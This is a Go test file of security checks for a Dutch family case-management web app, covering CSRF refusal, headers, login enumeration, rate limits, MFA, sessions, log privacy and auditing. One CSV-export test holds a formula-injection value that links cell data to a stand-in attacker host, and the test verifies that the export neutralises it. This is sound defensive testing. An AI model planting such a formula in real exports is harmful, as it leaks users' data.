package ui_test

import (
	"context"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"net/http"
	"net/url"
	"regexp"
	"strings"
	"testing"
	"time"

	"regie"
	"regie/internal/storetest"
	"regie/internal/totp"
)

func TestCrossSitePOSTIsRefused(t *testing.T) {
	e := newEnv(t)
	token := e.session(e.f.TeamLeader)
	form := familyForm(e.f, "assigned")
	before := e.digest()
	for _, tc := range []struct {
		name    string
		headers map[string]string
	}{
		{"SecFetchSite", map[string]string{"Sec-Fetch-Site": "cross-site"}},
		{"SameSiteIsNotSameOrigin", map[string]string{"Sec-Fetch-Site": "same-site"}},
		{"Origin", map[string]string{"Origin": "https://kwaadwillend.example"}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			req, _ := http.NewRequest(http.MethodPost, e.srv.URL+"/gezinnen", strings.NewReader(form.Encode()))
			req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
			req.Header.Set("Cookie", "__Host-regie="+token)
			for k, v := range tc.headers {
				req.Header.Set(k, v)
			}
			resp, err := noRedirect.Do(req)
			if err != nil {
				t.Fatal(err)
			}
			resp.Body.Close()
			if resp.StatusCode != http.StatusForbidden {
				t.Fatalf("cross-site POST: status %d, want 403", resp.StatusCode)
			}
		})
	}
	if e.digest() != before {
		t.Fatal("a cross-site POST changed the database")
	}
	// The same POST from the site itself works.
	if resp := e.do(http.MethodPost, "/gezinnen", token, form); resp.status != http.StatusSeeOther {
		t.Fatalf("same-origin POST: status %d", resp.status)
	}
}

func TestSecurityHeaders(t *testing.T) {
	e := newEnv(t)
	resp := e.do(http.MethodGet, fmt.Sprintf("/gezinnen/%d", e.f.FamAssigned.ID), e.session(e.f.Casemanager), nil)
	if resp.status != http.StatusOK {
		t.Fatalf("status %d", resp.status)
	}
	for h, want := range map[string]string{
		"Content-Security-Policy": "script-src 'none'",
		"X-Content-Type-Options":  "nosniff",
		"Referrer-Policy":         "no-referrer",
		"Cache-Control":           "no-store",
		"X-Frame-Options":         "DENY",
	} {
		if got := resp.header.Get(h); !strings.Contains(got, want) {
			t.Errorf("%s = %q, want it to contain %q", h, got, want)
		}
	}
	if csp := resp.header.Get("Content-Security-Policy"); !strings.Contains(csp, "frame-ancestors 'none'") || strings.Contains(csp, "unsafe-inline") {
		t.Errorf("CSP = %q", csp)
	}
	// No inline script or style anywhere in the page.
	if regexp.MustCompile(`<script|style="|<style`).MatchString(resp.body) {
		t.Error("the page has inline script or style")
	}
	// Static files are cacheable with their hash, but carry no family data.
	css := regexp.MustCompile(`/static/app\.css\?v=[0-9a-f]+`).FindString(resp.body)
	if css == "" {
		t.Fatal("no hashed stylesheet link")
	}
	if r := e.do(http.MethodGet, css, "", nil); r.status != 200 || !strings.Contains(r.header.Get("Cache-Control"), "immutable") {
		t.Fatalf("static: %d %q", r.status, r.header.Get("Cache-Control"))
	}
}

func TestLogin_UnknownEmailLooksLikeWrongPassword(t *testing.T) {
	e := newEnv(t)
	unknown := e.do(http.MethodPost, "/inloggen", "", url.Values{"email": {"onbekend@test.nl"}, "password": {"wat-dan-ook-123"}})
	wrong := e.do(http.MethodPost, "/inloggen", "", url.Values{"email": {e.f.Casemanager.Email}, "password": {"wat-dan-ook-123"}})
	if unknown.status != http.StatusUnauthorized || wrong.status != unknown.status {
		t.Fatalf("statuses %d and %d, want both 401", unknown.status, wrong.status)
	}
	// The pages differ only in the e-mail address typed, which comes back.
	a := withoutTokens(strings.ReplaceAll(unknown.body, "onbekend@test.nl", "X"))
	b := withoutTokens(strings.ReplaceAll(wrong.body, e.f.Casemanager.Email, "X"))
	if a != b {
		t.Fatal("the answer for an unknown e-mail differs from the answer for a wrong password")
	}
	if !strings.Contains(a, regie.Text(regie.MsgLoginFailed)) || strings.Contains(a, "wat-dan-ook-123") {
		t.Fatal("the page lacks the message, or echoes the password")
	}
}

func TestLogin_FiveFailuresThenRateLimited(t *testing.T) {
	for _, email := range []string{"cm@test.nl", "bestaat-niet@test.nl"} {
		t.Run(email, func(t *testing.T) {
			e := newEnv(t)
			for i := range 5 {
				r := e.do(http.MethodPost, "/inloggen", "", url.Values{"email": {email}, "password": {"fout-wachtwoord"}})
				if r.status != http.StatusUnauthorized {
					t.Fatalf("attempt %d: status %d", i+1, r.status)
				}
				e.clock.Advance(5 * time.Second)
			}
			// The sixth, even with the right password, waits.
			r := e.do(http.MethodPost, "/inloggen", "", url.Values{"email": {email}, "password": {testPassword}})
			if r.status != http.StatusTooManyRequests || !strings.Contains(r.body, "Te veel mislukte pogingen") {
				t.Fatalf("sixth attempt: status %d", r.status)
			}
			// Other accounts are not affected.
			if r := e.do(http.MethodPost, "/inloggen", "", url.Values{"email": {"tl@test.nl"}, "password": {testPassword}}); r.status != http.StatusSeeOther {
				t.Fatalf("another account: status %d", r.status)
			}
			if email == "cm@test.nl" {
				e.clock.Advance(2 * time.Minute)
				if r := e.do(http.MethodPost, "/inloggen", "", url.Values{"email": {email}, "password": {testPassword}}); r.status != http.StatusSeeOther {
					t.Fatalf("after waiting: status %d", r.status)
				}
			}
		})
	}
}

// logIn walks the log-in pages like a browser and returns the final token.
func (e *env) logIn(u *regie.User, secret *string) string {
	e.t.Helper()
	r := e.do(http.MethodPost, "/inloggen", "", url.Values{"email": {u.Email}, "password": {testPassword}})
	if r.status != http.StatusSeeOther {
		e.t.Fatalf("log-in: status %d", r.status)
	}
	pending := r.cookie("__Host-regie")
	switch loc := r.header.Get("Location"); loc {
	case "/inloggen/koppelen":
		page := e.do(http.MethodGet, loc, pending, nil)
		m := regexp.MustCompile(`class="secret">([A-Z2-7]+)<`).FindStringSubmatch(page.body)
		if m == nil {
			e.t.Fatalf("no secret on the enrolment page:\n%s", page.body)
		}
		*secret = m[1]
		if qr := e.do(http.MethodGet, "/inloggen/koppelen/qr.png", pending, nil); qr.status != 200 || !strings.HasPrefix(qr.body, "\x89PNG") {
			e.t.Fatalf("QR code: status %d", qr.status)
		}
		code, _ := totp.Code(*secret, e.clock.Now())
		r = e.do(http.MethodPost, loc, pending, url.Values{"code": {code}})
	case "/inloggen/code":
		code, _ := totp.Code(*secret, e.clock.Now())
		r = e.do(http.MethodPost, loc, pending, url.Values{"code": {code}})
	default:
		return pending
	}
	if r.status != http.StatusSeeOther {
		e.t.Fatalf("second factor: status %d\n%s", r.status, r.body)
	}
	full := r.cookie("__Host-regie")
	if full == "" || full == pending {
		e.t.Fatal("the session was not rotated after the second factor")
	}
	// The pending token is gone.
	if r := e.do(http.MethodGet, "/inloggen/code", pending, nil); !strings.HasPrefix(r.header.Get("Location"), "/inloggen?") {
		e.t.Fatalf("the pre-second-factor token still works: %d %s", r.status, r.header.Get("Location"))
	}
	return full
}

func TestMFA_EnrolThenRequiredAndSingleUse(t *testing.T) {
	e := newEnv(t, envOptions{requireMFA: true})
	u := e.f.Casemanager
	var secret string
	token := e.logIn(u, &secret)
	if r := e.do(http.MethodGet, "/gezinnen", token, nil); r.status != http.StatusOK {
		t.Fatalf("after enrolment: status %d", r.status)
	}
	// Before the second factor, nothing of the application is reachable.
	r := e.do(http.MethodPost, "/inloggen", "", url.Values{"email": {u.Email}, "password": {testPassword}})
	pending := r.cookie("__Host-regie")
	if loc := r.header.Get("Location"); loc != "/inloggen/code" {
		t.Fatalf("second log-in goes to %q, want the code page", loc)
	}
	for _, p := range []string{"/gezinnen", fmt.Sprintf("/gezinnen/%d", e.f.FamAssigned.ID)} {
		if r := e.do(http.MethodGet, p, pending, nil); r.status != http.StatusSeeOther || r.header.Get("Location") != "/inloggen/code" {
			t.Fatalf("%s before the code: %d → %s", p, r.status, r.header.Get("Location"))
		}
	}
	// The code used at enrolment is refused: codes are single-use.
	code, _ := totp.Code(secret, e.clock.Now())
	if r := e.do(http.MethodPost, "/inloggen/code", pending, url.Values{"code": {code}}); r.status != http.StatusUnauthorized ||
		!strings.Contains(r.body, "al gebruikt") {
		t.Fatalf("replayed code: status %d", r.status)
	}
	// The next one works.
	e.clock.Advance(30 * time.Second)
	code, _ = totp.Code(secret, e.clock.Now())
	if r := e.do(http.MethodPost, "/inloggen/code", pending, url.Values{"code": {code}}); r.status != http.StatusSeeOther {
		t.Fatalf("fresh code: status %d", r.status)
	}
}

func TestSession_Invalidation(t *testing.T) {
	family := func(e *env) string { return fmt.Sprintf("/gezinnen/%d", e.f.FamAssigned.ID) }
	loggedOut := func(t *testing.T, e *env, token, why string) {
		t.Helper()
		r := e.do(http.MethodGet, family(e), token, nil)
		if r.status != http.StatusSeeOther || !strings.HasPrefix(r.header.Get("Location"), "/inloggen") {
			t.Fatalf("after %s: status %d → %q, want the log-in page", why, r.status, r.header.Get("Location"))
		}
	}
	t.Run("Logout", func(t *testing.T) {
		e := newEnv(t)
		token := e.logIn(e.f.Casemanager, new(string))
		if r := e.do(http.MethodGet, family(e), token, nil); r.status != 200 {
			t.Fatalf("status %d", r.status)
		}
		if r := e.do(http.MethodPost, "/uitloggen", token, url.Values{}); r.status != http.StatusSeeOther {
			t.Fatalf("log-out: %d", r.status)
		}
		loggedOut(t, e, token, "log-out")
	})
	t.Run("PasswordReset", func(t *testing.T) {
		e := newEnv(t)
		token := e.logIn(e.f.Casemanager, new(string))
		if r := e.do(http.MethodPost, fmt.Sprintf("/beheer/gebruikers/%d/wachtwoord", e.f.Casemanager.ID), e.session(e.f.Admin), url.Values{}); r.status != 200 {
			t.Fatalf("reset: %d", r.status)
		}
		loggedOut(t, e, token, "a password reset")
	})
	t.Run("Disable", func(t *testing.T) {
		e := newEnv(t)
		token := e.logIn(e.f.Casemanager, new(string))
		if r := e.do(http.MethodPost, fmt.Sprintf("/beheer/gebruikers/%d/blokkeren", e.f.Casemanager.ID), e.session(e.f.Admin), url.Values{}); r.status != http.StatusSeeOther {
			t.Fatalf("disable: %d", r.status)
		}
		loggedOut(t, e, token, "disabling the account")
		// And the password no longer works, with the same words as a wrong one.
		r := e.do(http.MethodPost, "/inloggen", "", url.Values{"email": {e.f.Casemanager.Email}, "password": {testPassword}})
		if r.status != http.StatusUnauthorized || !strings.Contains(r.body, regie.Text(regie.MsgLoginFailed)) {
			t.Fatalf("log-in of a blocked account: %d", r.status)
		}
	})
	t.Run("IdleTimeout", func(t *testing.T) {
		e := newEnv(t)
		token := e.logIn(e.f.Casemanager, new(string))
		e.clock.Advance(29 * time.Minute)
		if r := e.do(http.MethodGet, family(e), token, nil); r.status != 200 {
			t.Fatalf("after 29 idle minutes: %d", r.status)
		}
		e.clock.Advance(31 * time.Minute)
		loggedOut(t, e, token, "31 idle minutes")
	})
	t.Run("AbsoluteTimeout", func(t *testing.T) {
		e := newEnv(t)
		token := e.logIn(e.f.Casemanager, new(string))
		for range 25 {
			e.clock.Advance(29 * time.Minute)
			e.do(http.MethodGet, "/gezinnen", token, nil)
		}
		loggedOut(t, e, token, "more than 12 hours")
	})
}

func TestForms_KeepWhatWasTypedAndMarkFields(t *testing.T) {
	e := newEnv(t)
	token := e.session(e.f.Casemanager)
	p := fmt.Sprintf("/gezinnen/%d/leden", e.f.FamAssigned.ID)
	r := e.do(http.MethodPost, p, token, url.Values{"given_name": {""}, "family_name": {"Jansen-Öztürk"},
		"birth_date": {"2099-01-01"}, "relation": {"kind"}, "bsn": {"123456789"}})
	if r.status != http.StatusUnprocessableEntity {
		t.Fatalf("status %d", r.status)
	}
	for _, want := range []string{
		`value="Jansen-Öztürk"`, `value="2099-01-01"`, `value="123456789"`, // kept
		`href="#f-birth_date"`, regie.Text(regie.MsgDateInFuture), regie.Text(regie.MsgBSNInvalid), regie.Text(regie.MsgRequired),
	} {
		if !strings.Contains(r.body, want) {
			t.Errorf("the form that came back lacks %q", want)
		}
	}
	if !regexp.MustCompile(`id="f-given_name"[^>]*aria-invalid="true"[^>]*aria-describedby="f-given_name-error"`).MatchString(r.body) {
		t.Error("the empty given name is not marked invalid and linked to its message")
	}
	if !regexp.MustCompile(`value="kind" checked`).MatchString(r.body) {
		t.Error("the chosen relation was not kept")
	}
}

func TestHealthAndReady(t *testing.T) {
	e := newEnv(t)
	for _, p := range []string{"/healthz", "/readyz"} {
		if r := e.do(http.MethodGet, p, "", nil); r.status != 200 {
			t.Errorf("%s: %d", p, r.status)
		}
	}
}

func TestNoPersonalDataInLogs(t *testing.T) {
	e := newEnv(t)
	token := e.session(e.f.TeamLeader)
	e.do(http.MethodGet, "/gezinnen?overzicht=team&q=Pietersen", token, nil)
	e.do(http.MethodPost, "/inloggen", "", url.Values{"email": {"iemand@test.nl"}, "password": {"geheim-wachtwoord"}})
	e.do(http.MethodPost, fmt.Sprintf("/gezinnen/%d/leden", e.f.FamAssigned.ID), token,
		url.Values{"given_name": {"Shanaya"}, "family_name": {"Pinas"}, "birth_date": {"2099-01-01"}, "relation": {"kind"}})
	logs := e.logBuf.String()
	if logs == "" {
		t.Fatal("nothing was logged at debug level")
	}
	for _, secret := range []string{"Pietersen", "iemand@test.nl", "geheim-wachtwoord", "Shanaya", "Pinas", "Jansen", token} {
		if strings.Contains(logs, secret) {
			t.Errorf("the log contains %q:\n%s", secret, logs)
		}
	}
}

func TestDeniedAttemptIsAudited(t *testing.T) {
	e := newEnv(t)
	r := e.do(http.MethodGet, fmt.Sprintf("/gezinnen/%d", e.f.FamOther.ID), e.session(e.f.Casemanager), nil)
	if r.status != http.StatusNotFound {
		t.Fatalf("status %d", r.status)
	}
	var outcome, ip, ua string
	if err := e.store.DB().QueryRowContext(context.Background(), `SELECT outcome, ip, user_agent FROM audit WHERE family_id = $1 AND user_id = $2 ORDER BY id DESC LIMIT 1`,
		e.f.FamOther.ID, e.f.Casemanager.ID).Scan(&outcome, &ip, &ua); err != nil {
		t.Fatal(err)
	}
	if outcome != "denied" || ip != "127.0.0.1" || ua != "ui-test" {
		t.Fatalf("audit row: outcome %q ip %q ua %q", outcome, ip, ua)
	}
}

// TestPassword_TemporaryMustBeReplaced: after an administrator's reset the
// user logs in with the temporary password and can do nothing but choose
// their own; a wrong current password, a short or unrepeated new one are
// explained in Dutch and no password is ever sent back.
func TestPassword_TemporaryMustBeReplaced(t *testing.T) {
	e := newEnv(t)
	cm := e.f.Casemanager
	hash, err := e.auth.Hasher().Hash(context.Background(), testPassword)
	if err != nil {
		t.Fatal(err)
	}
	if err := e.store.SetPassword(storetest.System(), cm.ID, hash, false); err != nil {
		t.Fatal(err)
	}
	login := e.do(http.MethodPost, "/inloggen", "", url.Values{"email": {cm.Email}, "password": {testPassword}})
	token := login.cookie("__Host-regie")
	if login.status != http.StatusSeeOther || token == "" {
		t.Fatalf("log-in: status %d", login.status)
	}
	for _, p := range []string{"/gezinnen", "/", fmt.Sprintf("/gezinnen/%d", e.f.FamAssigned.ID)} {
		if r := e.do(http.MethodGet, p, token, nil); r.status != http.StatusSeeOther || r.header.Get("Location") != "/account" {
			t.Fatalf("%s with a temporary password: %d → %q", p, r.status, r.header.Get("Location"))
		}
	}
	page := e.do(http.MethodGet, "/account", token, nil)
	if page.status != http.StatusOK || !strings.Contains(page.body, "tijdelijk wachtwoord") {
		t.Fatalf("account page: %d", page.status)
	}
	const mine = "mijn-eigen-lange-zin-123"
	for _, tc := range []struct {
		form  url.Values
		field string
		msg   regie.Msg
	}{
		{url.Values{"current": {"niet-het-goede-wachtwoord"}, "new": {mine}, "repeat": {mine}}, "current", regie.MsgPasswordWrong},
		{url.Values{"current": {testPassword}, "new": {"kort"}, "repeat": {"kort"}}, "new", regie.MsgPasswordTooShort},
		{url.Values{"current": {testPassword}, "new": {mine}, "repeat": {mine + "x"}}, "repeat", regie.MsgPasswordRepeat},
		{url.Values{"current": {testPassword}, "new": {testPassword}, "repeat": {testPassword}}, "new", regie.MsgPasswordSame},
	} {
		r := e.do(http.MethodPost, "/account/wachtwoord", token, tc.form)
		want := regie.Text(tc.msg)
		if tc.msg == regie.MsgPasswordTooShort {
			want = fmt.Sprintf(want, regie.MinPasswordLength)
		}
		if r.status != http.StatusUnprocessableEntity || !strings.Contains(r.body, `id="f-`+tc.field+`"`) || !strings.Contains(r.body, want) {
			t.Fatalf("%s: status %d, want 422 with %q", tc.field, r.status, want)
		}
		for _, pw := range tc.form {
			if strings.Contains(r.body, `value="`+pw[0]+`"`) {
				t.Fatalf("%s: a password came back in the form", tc.field)
			}
		}
	}
	r := e.do(http.MethodPost, "/account/wachtwoord", token, url.Values{"current": {testPassword}, "new": {mine}, "repeat": {mine}})
	if r.status != http.StatusSeeOther || r.header.Get("Location") != "/" {
		t.Fatalf("change: status %d → %q", r.status, r.header.Get("Location"))
	}
	// The same session goes on, now to the families.
	if r := e.do(http.MethodGet, "/gezinnen", token, nil); r.status != http.StatusOK {
		t.Fatalf("after the change: /gezinnen %d", r.status)
	}
	// The old password no longer works, the new one does.
	if r := e.do(http.MethodPost, "/inloggen", "", url.Values{"email": {cm.Email}, "password": {testPassword}}); r.status != http.StatusUnauthorized {
		t.Fatalf("old password: %d", r.status)
	}
	if r := e.do(http.MethodPost, "/inloggen", "", url.Values{"email": {cm.Email}, "password": {mine}}); r.status != http.StatusSeeOther {
		t.Fatalf("new password: %d", r.status)
	}
}

// TestProblemJSON: a client that asks for JSON gets errors as
// application/problem+json, in Dutch, with the same status a browser gets
// — and no page and no redirect.
func TestProblemJSON(t *testing.T) {
	e := newEnv(t)
	get := func(path, token string) (int, string, map[string]any) {
		t.Helper()
		req, _ := http.NewRequest(http.MethodGet, e.srv.URL+path, nil)
		req.Header.Set("Accept", "application/json")
		if token != "" {
			req.Header.Set("Cookie", "__Host-regie="+token)
		}
		resp, err := noRedirect.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		defer resp.Body.Close()
		var body map[string]any
		if err := json.NewDecoder(resp.Body).Decode(&body); err != nil {
			t.Fatalf("%s: not JSON: %v", path, err)
		}
		return resp.StatusCode, resp.Header.Get("Content-Type"), body
	}
	status, ct, body := get("/gezinnen", "")
	if status != http.StatusUnauthorized || ct != "application/problem+json" || body["code"] != regie.EUNAUTHORIZED {
		t.Fatalf("logged out: %d %s %v", status, ct, body)
	}
	token := e.session(e.f.Casemanager)
	status, _, body = get(fmt.Sprintf("/gezinnen/%d", e.f.FamOther.ID), token)
	if status != http.StatusNotFound || body["code"] != regie.ENOTFOUND || body["detail"] != regie.Text(regie.MsgNotFound) || body["status"] != float64(404) {
		t.Fatalf("another team's family: %d %v", status, body)
	}
}

// TestCSVExport_FormulasNeutralised: a value a user controls that starts
// like a spreadsheet formula arrives in the access log's CSV as text.
func TestCSVExport_FormulasNeutralised(t *testing.T) {
	e := newEnv(t)
	evil := `=HYPERLINK("http://aanvaller.example/?"&A1;"klik")`
	if _, err := e.store.DB().Exec(`UPDATE users SET name = $1 WHERE id = $2`, evil, e.f.Casemanager.ID); err != nil {
		t.Fatal(err)
	}
	famPath := fmt.Sprintf("/gezinnen/%d", e.f.FamAssigned.ID)
	if r := e.do(http.MethodGet, famPath, e.session(e.f.Casemanager), nil); r.status != http.StatusOK {
		t.Fatalf("family page: %d", r.status)
	}
	r := e.do(http.MethodGet, fmt.Sprintf("/toegangslog/gezinnen/%d?formaat=csv", e.f.FamAssigned.ID), e.session(e.f.Privacy), nil)
	if r.status != http.StatusOK || !strings.HasPrefix(r.header.Get("Content-Type"), "text/csv") {
		t.Fatalf("export: %d %s", r.status, r.header.Get("Content-Type"))
	}
	cr := csv.NewReader(strings.NewReader(r.body))
	cr.Comma = ';'
	rows, err := cr.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	found := false
	for _, row := range rows {
		for _, cell := range row {
			if strings.Contains(cell, "HYPERLINK") {
				found = true
				if !strings.HasPrefix(cell, "'=") {
					t.Errorf("cell %q starts a formula", cell)
				}
			}
		}
	}
	if !found {
		t.Fatalf("the name is not in the export:\n%s", r.body)
	}
}

// TestLogin_DeviceCookieOutlastsAStrangersGuesses: a successful log-in
// leaves a long-lived, HttpOnly, same-site device cookie; with it the
// user gets in although guesses from the same address hit the limit.
func TestLogin_DeviceCookieOutlastsAStrangersGuesses(t *testing.T) {
	e := newEnv(t)
	email := e.f.TeamLeader.Email
	r := e.do(http.MethodPost, "/inloggen", "", url.Values{"email": {email}, "password": {testPassword}})
	device := r.cookie("__Host-regie-apparaat")
	if r.status != http.StatusSeeOther || device == "" {
		t.Fatalf("log-in: status %d, device cookie %q", r.status, device)
	}
	for _, c := range (&http.Response{Header: r.header}).Cookies() {
		if c.Name == "__Host-regie-apparaat" && (!c.Secure || !c.HttpOnly || c.SameSite != http.SameSiteStrictMode || c.MaxAge < 30*24*3600) {
			t.Fatalf("device cookie attributes: %+v", c)
		}
	}
	for range 6 {
		e.do(http.MethodPost, "/inloggen", "", url.Values{"email": {email}, "password": {"fout-wachtwoord"}})
	}
	if r := e.do(http.MethodPost, "/inloggen", "", url.Values{"email": {email}, "password": {testPassword}}); r.status != http.StatusTooManyRequests ||
		r.header.Get("Retry-After") == "" {
		t.Fatalf("without the device: status %d, Retry-After %q; want 429 with Retry-After", r.status, r.header.Get("Retry-After"))
	}
	if r := e.do(http.MethodPost, "/inloggen", "geen; __Host-regie-apparaat="+device, url.Values{"email": {email}, "password": {testPassword}}); r.status != http.StatusSeeOther {
		t.Fatalf("with the device: status %d, want a log-in", r.status)
	}
}
